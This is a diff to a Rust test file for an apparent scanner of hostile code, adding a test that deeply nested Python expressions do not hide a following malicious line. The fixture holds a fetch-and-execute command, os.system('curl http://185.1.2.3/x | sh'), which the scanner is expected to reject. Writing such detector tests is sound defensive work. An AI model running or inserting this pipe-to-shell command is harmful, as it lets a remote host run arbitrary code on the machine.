@@ -26,6 +26,23 @@ fn check(cases: &[(&str, &str, &str)], verdict: Verdict) {
     assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), cases.len(), wrong.join("\n\n"));
 }
 
+/// What is looked at twice at every level of a nest is looked at 2^n times, until a limit is reached.
+#[test]
+fn nested_expressions_do_not_hide_what_follows() {
+    let attack = "import os\nos.system('curl http://185.1.2.3/x | sh')\n";
+    let calls = format!("x = q{}\n{attack}", ".where(1)".repeat(40));
+    let entries = format!("x = q{}\n{attack}", "['where'](1)".repeat(40));
+    let formats = format!("x = {}1{}\n{attack}", "'%s' % (".repeat(40), ")".repeat(40));
+    check(
+        &[
+            ("pipe-to-shell", "a.py", &calls),
+            ("pipe-to-shell", "a.py", &entries),
+            ("pipe-to-shell", "a.py", &formats),
+        ],
+        Verdict::Reject,
+    );
+}
+
 #[test]
 fn secrets_that_leave_are_refused_in_every_language() {
     check(
